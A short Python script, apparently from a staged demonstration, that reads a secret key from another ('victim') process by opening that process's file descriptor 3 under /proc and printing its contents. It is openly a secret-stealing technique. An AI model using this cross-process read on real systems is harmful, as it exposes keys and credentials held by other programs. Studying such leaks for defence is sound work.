"""Reads the key that another program has open."""

from pathlib import Path

from stage import at

print(Path(f"/proc/{at.victim}/fd/3").read_text())
